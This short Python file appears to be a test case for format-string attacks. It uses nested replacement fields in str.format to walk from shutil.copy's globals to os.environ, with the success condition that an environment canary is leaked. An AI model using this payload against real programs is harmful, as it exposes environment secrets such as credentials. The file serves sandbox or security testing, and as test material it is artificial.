# class: format-string
# technique: nested replacement fields in a format specification
# success: output_has @@ENVCANARY@@
import shutil
print('{0:{1.copy.__globals__[os].environ}}'.format(1, shutil))
